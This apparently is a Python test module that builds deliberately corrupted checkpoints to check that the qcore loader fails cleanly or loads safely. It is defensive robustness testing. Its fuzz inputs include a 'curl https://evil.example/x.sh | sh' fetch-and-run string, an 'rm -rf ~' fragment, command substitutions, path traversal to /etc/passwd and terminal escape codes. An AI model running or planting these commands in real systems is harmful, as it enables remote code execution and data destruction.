"""Hostile checkpoints made on purpose: systematic corruptions of safetensors headers, index files,
config.json and .bin files, each with the outcome qcore must give.

A :class:`Case` edits a copy of a small, valid checkpoint in place. Its outcome is ``"loads"`` (the
input is odd but well defined) or ``"error"``: a ``qcore.QcoreError`` whose message contains every
one of ``needles`` (the file and, where there is one, the key at fault; :func:`assert_names`).
:func:`bounded` holds every case's load to a time and a memory limit.
"""

from __future__ import annotations

import contextlib
import json
import re
import shutil
import signal
import struct
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import torch

from qcore.cli import escaped

WEIGHTS = "diffusion_pytorch_model.safetensors"
INDEX = "diffusion_pytorch_model.safetensors.index.json"
BIN = "diffusion_pytorch_model.bin"
CONFIG = "config.json"
SHARD_1 = "diffusion_pytorch_model-00001-of-00002.safetensors"  # holds KEY in the sharded base
SHARD_2 = "diffusion_pytorch_model-00002-of-00002.safetensors"
KEY = "blocks.0.attn.weight"  # a 16x16 bfloat16 weight (512 bytes) of the tiny model
SAME_SIZE_KEY = "blocks.0.proj_out.weight"  # another 16x16 bfloat16 weight
LAST_KEY = "vace_blocks.0.proj_out.weight"  # the tensor whose bytes end the single-file base
TINY_CONFIG = {"dim": 16, "depth": 1, "vace_depth": 1, "out_dim": 8}
MISSING = object()  # "delete this field"


@dataclass(frozen=True)
class Case:
    id: str
    area: str  # header, file, index, config, quantization_config, bin, location
    corrupt: Callable[[Path], Any]
    outcome: str = "error"  # or "loads"
    needles: tuple[str, ...] = ()
    sharded: bool = False
    # Whether `qcore inspect` reads what is broken (headers, index, JSON files). It does not build
    # the model, so a config field the model rejects, or a tensor of the wrong kind for its
    # parameter, is the loader's alone.
    inspect_sees: bool = True


# --- raw safetensors ----------------------------------------------------------------------------


def read_raw(path: Path) -> tuple[dict[str, Any], bytes]:
    blob = path.read_bytes()
    (length,) = struct.unpack("<Q", blob[:8])
    return json.loads(blob[8 : 8 + length]), blob[8 + length :]


def write_raw(
    path: Path, header: dict[str, Any] | str | bytes, data: bytes, length: int | None = None
) -> None:
    raw = (
        header
        if isinstance(header, bytes)
        else (header if isinstance(header, str) else _dumps(header)).encode()
    )
    path.write_bytes(struct.pack("<Q", len(raw) if length is None else length) + raw + data)


def _dumps(value: Any) -> str:
    return json.dumps(value, allow_nan=True)


def first_shard(ckpt: Path) -> Path:
    return sorted(ckpt.glob("*-00001-of-*.safetensors"))[0]


def shard_of(ckpt: Path, key: str) -> Path:
    return ckpt / json.loads((ckpt / INDEX).read_text())["weight_map"][key]


# --- header cases -------------------------------------------------------------------------------


def _edit_entry(field: str, value: Any) -> Callable[[Path], None]:
    def corrupt(ckpt: Path) -> None:
        header, data = read_raw(ckpt / WEIGHTS)
        if value is MISSING:
            del header[KEY][field]
        else:
            header[KEY][field] = value
        write_raw(ckpt / WEIGHTS, header, data)

    return corrupt


def _edit_header_text(edit: Callable[[str], str]) -> Callable[[Path], None]:
    def corrupt(ckpt: Path) -> None:
        header, data = read_raw(ckpt / WEIGHTS)
        write_raw(ckpt / WEIGHTS, edit(_dumps(header)), data)

    return corrupt


def _raw_field(field: str, text: str) -> Callable[[Path], None]:
    """Set KEY's ``field`` to JSON text json.dumps cannot write (NaN, 1e400)."""
    pattern = re.compile(rf'("{re.escape(KEY)}": {{[^}}]*"{field}": )\[[^\]]*\]')
    return _edit_header_text(lambda h: pattern.sub(lambda m: m.group(1) + text, h))


def _offsets_of(key: str) -> Callable[[Path], None]:
    def corrupt(ckpt: Path) -> None:
        header, data = read_raw(ckpt / WEIGHTS)
        header[KEY]["data_offsets"] = header[key]["data_offsets"]
        write_raw(ckpt / WEIGHTS, header, data)

    return corrupt


def _past_end(ckpt: Path) -> None:
    header, data = read_raw(ckpt / WEIGHTS)
    header[KEY]["data_offsets"] = [len(data), len(data) + 512]
    write_raw(ckpt / WEIGHTS, header, data)


def _add_tensor(name: str) -> Callable[[Path], None]:
    def corrupt(ckpt: Path) -> None:
        header, data = read_raw(ckpt / WEIGHTS)
        header[name] = {"dtype": "F32", "shape": [2], "data_offsets": [len(data), len(data) + 8]}
        write_raw(ckpt / WEIGHTS, header, data + bytes(8))

    return corrupt


def _drop_tensor(ckpt: Path) -> None:
    # Remove KEY and its bytes, shifting the tensors after it.
    header, data = read_raw(ckpt / WEIGHTS)
    begin, end = header.pop(KEY)["data_offsets"]
    for entry in header.values():
        if isinstance(entry, dict) and "data_offsets" in entry and entry["data_offsets"][0] >= end:
            entry["data_offsets"] = [o - (end - begin) for o in entry["data_offsets"]]
    write_raw(ckpt / WEIGHTS, header, data[:begin] + data[end:])


def _duplicate_key(change: dict[str, Any]) -> Callable[[Path], None]:
    def corrupt(ckpt: Path) -> None:
        header, data = read_raw(ckpt / WEIGHTS)
        second = _dumps({**header[KEY], **change})
        write_raw(ckpt / WEIGHTS, _dumps(header)[:-1] + f", {json.dumps(KEY)}: {second}}}", data)

    return corrupt


def _metadata(value: Any) -> Callable[[Path], None]:
    def corrupt(ckpt: Path) -> None:
        header, data = read_raw(ckpt / WEIGHTS)
        header["__metadata__"] = value
        write_raw(ckpt / WEIGHTS, header, data)

    return corrupt


def header_cases() -> Iterator[Case]:
    at_fault = (WEIGHTS, KEY)
    dtype_errors = {
        "missing": MISSING,
        "int": 3,
        "null": None,
        "list": ["BF16"],
        "unknown": "F7",
        "torch-name": "float32",
        "lowercase": "bf16",
        "escape-codes": "\x1b[31mBF16",
        "padded": "BF16 ",
        "wider": "F32",
        "e8m0": "F8_E8M0",
        "f4": "F4",
        "complex": "C64",
        "bool": "BOOL",
    }
    for name, value in dtype_errors.items():
        yield Case(f"dtype-{name}", "header", _edit_entry("dtype", value), needles=at_fault)
    for name in ("I16", "U16"):  # same size, integer data for a float parameter
        yield Case(
            f"dtype-{name}-for-float",
            "header",
            _edit_entry("dtype", name),
            needles=at_fault,
            inspect_sees=False,
        )
    yield Case("dtype-F16-reinterprets", "header", _edit_entry("dtype", "F16"), outcome="loads")

    shape_errors = {
        "missing": MISSING,
        "null": None,
        "string": "16,16",
        "fewer-elements": [16],
        "negative": [-16, -16],
        "float": [16.0, 16],
        "bool": [True, 16],
        "huge": [2**62, 2**62],
        "beyond-u64": [2**64, 1],
        "scalar": [],
        "zero": [0, 16],
        "strings": ["16", "16"],
        "nested": [[16], [16]],
        "too-many-dims": [1] * 65,
        "object": {"rows": 16},
    }
    for name, value in shape_errors.items():
        yield Case(f"shape-{name}", "header", _edit_entry("shape", value), needles=at_fault)
    for name, text in {"nan": "[NaN, 16]", "infinity": "[Infinity, 16]", "1e400": "[1e400, 16]"}.items():
        yield Case(f"shape-{name}", "header", _raw_field("shape", text), needles=at_fault)
    for name, value in {"flat": [256], "extra-dim": [16, 16, 1], "transposed-rank": [1, 256]}.items():
        # Well-formed, but not the parameter's shape.
        yield Case(
            f"shape-{name}", "header", _edit_entry("shape", value), needles=at_fault, inspect_sees=False
        )

    offset_errors = {
        "missing": MISSING,
        "null": None,
        "string": "0,512",
        "one": [0],
        "three": [0, 512, 1024],
        "negative": [-512, 0],
        "reversed": [512, 0],
        "short": [0, 256],
        "long": [0, 513],
        "shifted": [1, 513],
        "huge": [0, 2**64],
        "floats": [0.0, 512.0],
        "bools": [False, True],
    }
    for name, value in offset_errors.items():
        yield Case(f"offsets-{name}", "header", _edit_entry("data_offsets", value), needles=at_fault)
    for name, text in {"nan": "[NaN, 512]", "infinity": "[0, Infinity]", "1e400": "[0, 1e400]"}.items():
        yield Case(f"offsets-{name}", "header", _raw_field("data_offsets", text), needles=at_fault)
    yield Case("offsets-past-eof", "header", _past_end, needles=at_fault)
    yield Case("offsets-overlap", "header", _offsets_of(SAME_SIZE_KEY), needles=(WEIGHTS, KEY, SAME_SIZE_KEY))

    for name, value in {"string": "x", "list": [], "null": None, "int": 7}.items():
        yield Case(f"entry-{name}", "header", _metadata_free_entry(value), needles=at_fault)
    yield Case("entry-extra-field", "header", _edit_entry("comment", "\x1b[31m; rm -rf ~"), outcome="loads")
    yield Case("entry-removed", "header", _drop_tensor, needles=at_fault, inspect_sees=False)
    yield Case("duplicate-tensor-same", "header", _duplicate_key({}), needles=at_fault)
    yield Case(
        "duplicate-tensor-other-bytes", "header", _duplicate_key({"data_offsets": [0, 512]}), needles=at_fault
    )

    for name, key in {
        "escape-codes": "\x1b[2J\x1b[31mowned",
        "traversal": "../../etc/passwd",
        "empty": "",
        "newline": f"{KEY}\nfake",
        "long": "k" * 5000,
        "shell": "$(touch /tmp/qcore-pwned)",
        "unicode-rtl": "a\u202eb",
    }.items():
        yield Case(
            f"tensor-name-{name}",
            "header",
            _add_tensor(key),
            needles=(WEIGHTS, key[:50].split("\n")[0]),
            inspect_sees=False,
        )

    metadata = {
        "list": ([], "error"),
        "string": ("pt", "error"),
        "int-value": ({"format": 1}, "error"),
        "nested": ({"a": {"b": "c"}}, "error"),
        "null": (None, "loads"),
        "escape-codes": ({"format": "pt", "note": "\x1b[2Jhi"}, "loads"),
        "huge-value": ({"format": "pt", "note": "x" * 100_000}, "loads"),
    }
    for name, (value, outcome) in metadata.items():
        needles = (WEIGHTS, "__metadata__") if outcome == "error" else ()
        yield Case(f"metadata-{name}", "header", _metadata(value), outcome=outcome, needles=needles)
    yield Case(
        "metadata-duplicated",
        "header",
        _edit_header_text(lambda h: h[:-1] + ', "__metadata__": {"a": "1"}, "__metadata__": {"a": "2"}}'),
        needles=(WEIGHTS, "__metadata__"),
    )


def _metadata_free_entry(value: Any) -> Callable[[Path], None]:
    def corrupt(ckpt: Path) -> None:
        header, data = read_raw(ckpt / WEIGHTS)
        header[KEY] = value
        write_raw(ckpt / WEIGHTS, header, data)

    return corrupt


# --- whole-file cases ---------------------------------------------------------------------------


def _bytes(make: Callable[[bytes], bytes]) -> Callable[[Path], None]:
    def corrupt(ckpt: Path) -> None:
        path = ckpt / WEIGHTS
        path.write_bytes(make(path.read_bytes()))

    return corrupt


def _with_length(length: int) -> Callable[[Path], None]:
    def corrupt(ckpt: Path) -> None:
        blob = (ckpt / WEIGHTS).read_bytes()
        (ckpt / WEIGHTS).write_bytes(struct.pack("<Q", length) + blob[8:])

    return corrupt


def _header_bytes(raw: bytes) -> Callable[[Path], None]:
    return lambda ckpt: write_raw(ckpt / WEIGHTS, raw, b"")


def file_cases() -> Iterator[Case]:
    needles = (WEIGHTS,)
    cases = {
        "empty-file": _bytes(lambda b: b""),
        "four-bytes": _bytes(lambda b: b[:4]),
        "length-only": _bytes(lambda b: b[:8]),
        "truncated-header": _bytes(lambda b: b[:40]),
        "truncated-data": _bytes(lambda b: b[:-100]),
        "trailing-bytes": _bytes(lambda b: b + bytes(64)),
        "garbage": _bytes(lambda b: b"\xff" * 64),
        "length-zero": _with_length(0),
        "length-past-eof": _with_length(10**6),
        "length-2^63": _with_length(2**63),
        "length-max-u64": _with_length(2**64 - 1),
        "length-off-by-one": lambda ckpt: _with_length(
            struct.unpack("<Q", (ckpt / WEIGHTS).read_bytes()[:8])[0] - 1
        )(ckpt),
        "header-not-json": _header_bytes(b"{not json"),
        "header-array": _header_bytes(b"[]"),
        "header-null": _header_bytes(b"null"),
        "header-string": _header_bytes(b'"x"'),
        "header-bad-utf8": _header_bytes(b'{"\xff\xfe": 1}'),
        "header-deep-nesting": _header_bytes(b'{"a":' * 100_000 + b"1" + b"}" * 100_000),
        "header-trailing-json": _header_bytes(b"{}{}"),
        "header-nul-padding": _bytes(lambda b: _nul_padded(b)),
        "header-empty-object-with-data": lambda ckpt: write_raw(ckpt / WEIGHTS, b"{}", bytes(64)),
    }
    for name, corrupt in cases.items():
        # Cutting the data short cuts the last tensor; other damage is to the file as a whole.
        keys = (LAST_KEY,) if name == "truncated-data" else ()
        yield Case(f"file-{name}", "file", corrupt, needles=(*needles, *keys))
    yield Case("file-no-tensors", "file", _header_bytes(b"{}"), needles=(WEIGHTS, KEY), inspect_sees=False)
    yield Case("file-header-spaces-padding", "file", _bytes(_space_padded), outcome="loads")


def _nul_padded(blob: bytes) -> bytes:
    (length,) = struct.unpack("<Q", blob[:8])
    header = blob[8 : 8 + length].rstrip(b" ") + b"\0" * 8
    return struct.pack("<Q", len(header)) + header + blob[8 + length :]


def _space_padded(blob: bytes) -> bytes:
    # Odd padding: the data section (and every tensor) starts at an odd file offset.
    (length,) = struct.unpack("<Q", blob[:8])
    header = blob[8 : 8 + length] + b" " * 3
    return struct.pack("<Q", len(header)) + header + blob[8 + length :]


# --- index cases --------------------------------------------------------------------------------


def _edit_index(edit: Callable[[dict[str, Any], Path], Any]) -> Callable[[Path], None]:
    def corrupt(ckpt: Path) -> None:
        index = json.loads((ckpt / INDEX).read_text())
        edit(index, ckpt)
        (ckpt / INDEX).write_text(_dumps(index))

    return corrupt


def _map_key_to(name: str | Callable[[Path], Any]) -> Callable[[Path], None]:
    def edit(index: dict[str, Any], ckpt: Path) -> None:
        index["weight_map"][KEY] = name(ckpt) if callable(name) else name

    return _edit_index(edit)


def _outside_copy(ckpt: Path) -> str:
    # A readable copy of the shard outside the checkpoint: following the index there is the escape.
    outside = ckpt.parent / "outside.safetensors"
    shutil.copy(shard_of(ckpt, KEY), outside)
    return str(outside)


def _in_subdir(ckpt: Path) -> str:
    shard = shard_of(ckpt, KEY)
    (ckpt / "sub").mkdir()
    shutil.copy(shard, ckpt / "sub" / shard.name)
    return f"sub/{shard.name}"


def _symlink_shard(target: Callable[[Path, Path], Path]) -> Callable[[Path], None]:
    def corrupt(ckpt: Path) -> None:
        shard = shard_of(ckpt, KEY)
        link_to = target(ckpt, shard)
        shard.unlink()
        shard.symlink_to(link_to)

    return corrupt


def _outside_target(ckpt: Path, shard: Path) -> Path:
    outside = ckpt.parent / "elsewhere.safetensors"
    shutil.copy(shard, outside)
    return outside


def _sparse(path: Path, size: int) -> None:
    with open(path, "r+b" if path.exists() else "wb") as f:
        f.truncate(size)


def index_cases() -> Iterator[Case]:
    names = {
        "parent-traversal": ("../outside.safetensors", None),
        "absolute": (_outside_copy, None),
        "subdirectory": (_in_subdir, None),
        "dotdot": ("..", None),
        "dot": (".", None),
        "empty": ("", None),
        "leading-space": (lambda c: " " + shard_of(c, KEY).name, None),
        "nul-byte": (lambda c: shard_of(c, KEY).name + "\0x", None),
        "backslash": (lambda c: "..\\" + shard_of(c, KEY).name, None),
        "drive-letter": (lambda c: "C:" + shard_of(c, KEY).name, None),
        "config-json": ("config.json", None),
        "bin-suffix": ("diffusion_pytorch_model-00001-of-00002.bin", None),
        "escape-codes": ("\x1b[2Jx.safetensors", "\\x1b"),
        "shell": ("$(touch pwned).safetensors", None),
        "absent-plain-name": ("diffusion_pytorch_model-00009-of-00009.safetensors", None),
        "null": (None, None),
        "int": (3, None),
        "list": (["x.safetensors"], None),
        "object": ({"file": "x.safetensors"}, None),
    }
    for name, (value, _) in names.items():
        yield Case(f"shard-name-{name}", "index", _map_key_to(value), needles=(INDEX, KEY), sharded=True)

    yield Case(
        "shard-missing",
        "index",
        lambda c: sorted(c.glob("*-00002-of-*.safetensors"))[0].unlink(),
        needles=(INDEX, SHARD_2),
        sharded=True,
    )
    yield Case(
        "key-mapped-to-wrong-shard",
        "index",
        _map_key_to(
            lambda c: next(p.name for p in sorted(c.glob("*-of-*.safetensors")) if p != shard_of(c, KEY))
        ),
        needles=(INDEX, KEY),
        sharded=True,
    )
    yield Case(
        "key-not-in-index",
        "index",
        _edit_index(lambda i, c: i["weight_map"].pop(KEY)),
        needles=(INDEX, KEY),
        sharded=True,
    )
    yield Case(
        "ghost-key-in-index",
        "index",
        _edit_index(lambda i, c: i["weight_map"].update({"ghost.weight": i["weight_map"][KEY]})),
        needles=(INDEX, "ghost.weight"),
        sharded=True,
    )
    weight_maps = {"missing": MISSING, "list": [], "string": "x", "null": None, "empty": {}, "int": 1}
    for name, value in weight_maps.items():

        def edit(index: dict[str, Any], ckpt: Path, value: Any = value) -> None:
            if value is MISSING:
                del index["weight_map"]
            else:
                index["weight_map"] = value

        yield Case(
            f"weight-map-{name}", "index", _edit_index(edit), needles=(INDEX, "weight_map"), sharded=True
        )
    texts = {
        "not-json": "{not json",
        "array": "[]",
        "empty": "",
        "bad-utf8": b'{"a": "\xff"}',
        "deep-nesting": '{"a":' * 100_000 + "1" + "}" * 100_000,
        "duplicate-key": None,
    }
    for name, text in texts.items():
        keys = (KEY,) if name == "duplicate-key" else ()
        yield Case(f"index-{name}", "index", _write_index(text), needles=(INDEX, *keys), sharded=True)
    yield Case(
        "index-huge", "index", lambda c: _sparse(c / INDEX, 200 * 1024 * 1024), needles=(INDEX,), sharded=True
    )
    yield Case(
        "index-metadata-odd",
        "index",
        _edit_index(lambda i, c: i.update({"metadata": [1, 2]})),
        outcome="loads",
        sharded=True,
    )
    yield Case(
        "index-total-size-nan",
        "index",
        _edit_index(lambda i, c: i["metadata"].update({"total_size": float("nan")})),
        outcome="loads",
        sharded=True,
    )
    yield Case(
        "symlink-outside",
        "index",
        _symlink_shard(_outside_target),
        needles=(SHARD_1, "links to"),
        sharded=True,
    )
    yield Case(
        "symlink-dangling",
        "index",
        _symlink_shard(lambda c, s: c / "nothing-here.safetensors"),
        needles=(SHARD_1, "does not exist"),
        sharded=True,
    )
    yield Case("symlink-inside", "index", _symlink_shard(_inside_target), outcome="loads", sharded=True)


def _inside_target(ckpt: Path, shard: Path) -> Path:
    target = ckpt / "blobs-copy"
    target.mkdir()
    shutil.copy(shard, target / "blob")
    return Path("blobs-copy") / "blob"


def _write_index(text: str | bytes | None) -> Callable[[Path], None]:
    def corrupt(ckpt: Path) -> None:
        if text is None:  # the same key twice, mapped to two shards
            index = json.loads((ckpt / INDEX).read_text())
            body = _dumps(index["weight_map"])[:-1] + f', {json.dumps(KEY)}: "other.safetensors"}}'
            (ckpt / INDEX).write_text(f'{{"weight_map": {body}}}')
        elif isinstance(text, bytes):
            (ckpt / INDEX).write_bytes(text)
        else:
            (ckpt / INDEX).write_text(text)

    return corrupt


# --- config.json cases --------------------------------------------------------------------------


def _edit_config(edit: Callable[[dict[str, Any]], Any]) -> Callable[[Path], None]:
    def corrupt(ckpt: Path) -> None:
        config = json.loads((ckpt / CONFIG).read_text())
        edit(config)
        (ckpt / CONFIG).write_text(_dumps(config))

    return corrupt


def _set_field(field: str, value: Any) -> Callable[[Path], None]:
    def edit(config: dict[str, Any]) -> None:
        if value is MISSING:
            config.pop(field, None)
        else:
            config[field] = value

    return _edit_config(edit)


def _write_config(text: str | bytes) -> Callable[[Path], None]:
    def corrupt(ckpt: Path) -> None:
        if isinstance(text, bytes):
            (ckpt / CONFIG).write_bytes(text)
        else:
            (ckpt / CONFIG).write_text(text)

    return corrupt


def config_cases() -> Iterator[Case]:
    keys = {"duplicate-dim": ("dim",)}
    files = {
        "not-json": "{not json",
        "array": "[1]",
        "empty": "",
        "bad-utf8": b'{"dim": "\xff"}',
        "deep-nesting": '{"a":' * 100_000 + "1" + "}" * 100_000,
        "duplicate-dim": '{"_class_name": "TinyTransformer", "dim": 16, "dim": 32, "depth": 1, '
        '"vace_depth": 1, "out_dim": 8}',
    }
    for name, text in files.items():
        yield Case(f"config-{name}", "config", _write_config(text), needles=(CONFIG, *keys.get(name, ())))
    yield Case("config-huge", "config", lambda c: _sparse(c / CONFIG, 200 * 1024 * 1024), needles=(CONFIG,))
    yield Case(
        "config-unknown-field-nan",
        "config",
        _set_field("note", float("nan")),
        needles=(CONFIG, "note"),
        inspect_sees=False,
    )
    yield Case(
        "config-class-name-escape-codes", "config", _set_field("_class_name", "\x1b[2JTiny"), outcome="loads"
    )

    # Field values the model rejects: the loader names the field; inspect does not build the model.
    bad_values = {
        "string": "16",
        "negative": -1,
        "zero": 0,
        "float": 16.5,
        "nan": float("nan"),
        "infinity": float("inf"),
        "bool": True,
        "null": None,
        "list": [16],
        "object": {"n": 16},
        "huge": 10**12,
    }
    for field in ("dim", "depth"):
        for name, value in bad_values.items():
            if (field, name) == ("depth", "bool"):  # true is 1 in JSON's Python reading: one block, as saved
                yield Case("config-depth-bool", "config", _set_field(field, value), outcome="loads")
                continue
            yield Case(
                f"config-{field}-{name}",
                "config",
                _set_field(field, value),
                needles=(CONFIG, field),
                inspect_sees=False,
            )
    yield Case(
        "config-depth-missing",
        "config",
        _set_field("depth", MISSING),
        needles=(WEIGHTS, "blocks.1"),
        inspect_sees=False,
    )


def quantization_config_cases() -> Iterator[Case]:
    hostile = "x; curl https://evil.example/x.sh | sh #"
    method = (CONFIG, "quant_method")
    unquantized = (WEIGHTS, "blocks.0.attn.weight_scale")
    values = {
        "string": ("int8", (CONFIG, "quantization_config")),
        "number": (5, (CONFIG, "quantization_config")),
        "list": ([], (CONFIG, "quantization_config")),
        "empty-object": ({}, method),
        "null-method": ({"quant_method": None}, method),
        "int-method": ({"quant_method": 5}, (*method, "'5'")),
        "shell-method": ({"quant_method": hostile}, (*method, "curl")),
        "escape-method": ({"quant_method": "\x1b[31mred"}, (*method, "red")),
        "long-method": ({"quant_method": "m" * 5000}, (*method, "mmmm")),
        "traversal-method": ({"quant_method": "../../x"}, (*method, "../../x")),
        "bad-option": ({"quant_method": "int8-test", "compute_dtype": "int4"}, (CONFIG, "compute_dtype")),
        # A checkpoint's unknown option is a warning (configs of newer versions), so the load fails
        # later, on the weights, which are not quantized.
        "unknown-option": ({"quant_method": "int8-test", "bits": 3}, unquantized),
        "option-wrong-type": (
            {"quant_method": "int8-test", "compute_dtype": ["bfloat16"]},
            (CONFIG, "compute_dtype"),
        ),
        "unquantized-weights": ({"quant_method": "int8-test"}, unquantized),
    }
    for name, (value, needles) in values.items():
        yield Case(
            f"quant-config-{name}",
            "quantization_config",
            _set_field("quantization_config", value),
            needles=needles,
            inspect_sees=name not in ("unquantized-weights", "unknown-option"),
        )


# --- .bin cases ---------------------------------------------------------------------------------


def _bin(make: Callable[[dict[str, torch.Tensor]], Any], raw: bytes | None = None) -> Callable[[Path], None]:
    def corrupt(ckpt: Path) -> None:
        from safetensors.torch import load_file

        state = load_file(str(ckpt / WEIGHTS))
        (ckpt / WEIGHTS).unlink()
        if raw is not None:
            (ckpt / BIN).write_bytes(raw)
        else:
            torch.save(make(state), ckpt / BIN)

    return corrupt


def bin_cases() -> Iterator[Case]:
    yield Case("bin-valid", "bin", _bin(lambda s: s), outcome="loads")
    yield Case("bin-tensor-not-dict", "bin", _bin(lambda s: s[KEY]), needles=(BIN,))
    yield Case("bin-int-value", "bin", _bin(lambda s: {**s, KEY: 3}), needles=(BIN, KEY))
    yield Case("bin-int-key", "bin", _bin(lambda s: {**s, 7: s[KEY]}), needles=(BIN, "entry 7"))
    yield Case("bin-garbage", "bin", _bin(lambda s: s, raw=b"\x80" * 64), needles=(BIN,))
    yield Case("bin-empty", "bin", _bin(lambda s: s, raw=b""), needles=(BIN,))
    yield Case(
        "bin-int-tensor-for-float",
        "bin",
        _bin(lambda s: {**s, KEY: s[KEY].view(torch.int16)}),
        needles=(BIN, KEY),
        inspect_sees=False,
    )


def all_cases() -> list[Case]:
    cases = [
        *header_cases(),
        *file_cases(),
        *index_cases(),
        *config_cases(),
        *quantization_config_cases(),
        *bin_cases(),
    ]
    ids = [case.id for case in cases]
    assert len(ids) == len(set(ids)), "case ids must be unique"
    return cases


def control_chars(text: str) -> list[str]:
    return sorted({ch for ch in text if not ch.isprintable() and ch != "\n"})


def make_base(path: Path, *, sharded: bool) -> Path:
    import qcore
    from helpers.models import make_tiny

    qcore.save_pretrained(make_tiny(**TINY_CONFIG), path, max_shard_size="2KB" if sharded else "10GB")
    return path


def copy_checkpoint(base: Path, target: Path) -> Path:
    shutil.copytree(base, target, symlinks=True)
    return target


# --- what every case is held to -------------------------------------------------------------------

_FILE_NAME = re.compile(r"[\w.-]+\.(json|safetensors|bin)")


def assert_names(message: str, needles: Sequence[str], *dirs: Path) -> None:
    """Every needle is in ``message`` with the directories ``dirs`` (the checkpoint, the test's temporary
    directory) taken out: pytest names a test's directory after the test, so a path would supply the
    needle ``dim`` of ``test_load[config-dim-string]``. A file name must stand as a name (``config.json``,
    not part of ``ckpt-config.json`` or of the index's name)."""
    for directory in sorted({str(p) for d in dirs for p in (d, d.resolve())}, key=len, reverse=True):
        message = message.replace(directory, "<dir>")
    for needle in needles:
        if _FILE_NAME.fullmatch(needle):
            found = re.search(rf"(?<![\w.-]){re.escape(needle)}(?![\w-]|\.[\w-])", message) is not None
        else:
            found = any(form in message for form in (needle, escaped(needle), repr(needle)[1:-1]))
        assert found, f"{needle!r} not in {message!r}"


class CaseTimeout(BaseException):
    """A load ran past its time limit (a BaseException: no ``except Exception`` in qcore turns it into a
    QcoreError that would satisfy the test)."""


SECONDS = 5.0  # a case's load takes well under a second: this is a hang
MEMORY_FACTOR = 16  # peak resident memory may grow by this many times the checkpoint's size ...
MEMORY_SLACK = 32 * 2**20  # ... plus this (torch's and Python's allocators, the model, parsing)


def _status_kib(field: str) -> int | None:
    try:
        status = Path("/proc/self/status").read_text()
    except OSError:
        return None
    found = re.search(rf"^{field}:\s+(\d+) kB", status, re.MULTILINE)
    return int(found.group(1)) if found else None


def _reset_peak_rss() -> bool:
    try:  # Linux: "5" resets the process's peak resident set size to the current one
        Path("/proc/self/clear_refs").write_text("5")
    except OSError:
        return False
    return True


def checkpoint_bytes(ckpt: Path) -> int:
    return sum(p.lstat().st_size for p in ckpt.rglob("*") if p.is_file() and not p.is_symlink())


@contextlib.contextmanager
def bounded(ckpt: Path, seconds: float = SECONDS) -> Iterator[None]:
    """Fail what runs inside past ``seconds``, or whose peak resident memory grows by more than
    MEMORY_FACTOR times ``ckpt``'s size plus MEMORY_SLACK. Uses SIGALRM, so the main thread only."""

    def expire(signum: int, frame: object) -> None:
        raise CaseTimeout(f"loading {ckpt} took more than {seconds} s")

    limit = MEMORY_FACTOR * checkpoint_bytes(ckpt) + MEMORY_SLACK
    measured = _reset_peak_rss()
    before = _status_kib("VmRSS") if measured else None
    previous = signal.signal(signal.SIGALRM, expire)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)
    peak = _status_kib("VmHWM") if before is not None else None
    if before is not None and peak is not None:
        grown = (peak - before) * 1024
        assert grown <= limit, f"peak memory grew by {grown:,} bytes, more than {limit:,} for {ckpt}"
